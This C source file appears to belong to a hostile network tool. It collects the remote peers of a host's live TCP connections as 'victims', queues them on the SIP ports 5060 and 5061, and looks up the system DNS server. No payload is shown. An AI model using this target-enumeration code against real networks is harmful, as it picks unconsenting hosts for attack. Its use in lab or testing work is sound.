#include "hostile.h"

#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>

enum { SIP_PORT = 5060, SIPS_PORT = 5061, LOOPBACK_NET = 127, STATE_LISTEN = 0x0a };

static void add(struct victims *victims, uint32_t ip, uint16_t port)
{
    for (size_t i = 0; i < victims->count; i++) {
        if (victims->addresses[i].sin_addr.s_addr == ip && victims->addresses[i].sin_port == htons(port))
            return;
    }
    if (victims->count == VICTIMS_MAX)
        return;
    victims->addresses[victims->count++] =
        (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(port), .sin_addr = {.s_addr = ip}};
}

void victims_refresh(struct victims *victims)
{
    FILE *table = fopen("/proc/net/tcp", "re");
    char line[512];

    victims->count = 0; /* worlds come and go */
    while (table && fgets(line, sizeof line, table)) {
        unsigned local_ip, local_port, ip, port, state;

        if (sscanf(line, " %*u: %x:%x %x:%x %x", &local_ip, &local_port, &ip, &port, &state) != 5)
            continue; /* the heading */
        if (state == STATE_LISTEN || !ip || (ntohl(ip) >> 24) == LOOPBACK_NET)
            continue;
        add(victims, ip, SIP_PORT);
        add(victims, ip, SIPS_PORT);
    }
    if (table)
        fclose(table);
}

bool victims_find_dns(struct sockaddr_in *out)
{
    FILE *file = fopen("/etc/resolv.conf", "re");
    char line[256], text[64];
    bool is_found = false;

    while (file && !is_found && fgets(line, sizeof line, file)) {
        *out = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(53)};
        is_found =
            sscanf(line, "nameserver %63s", text) == 1 && inet_pton(AF_INET, text, &out->sin_addr) == 1;
    }
    if (file)
        fclose(file);
    return is_found;
}
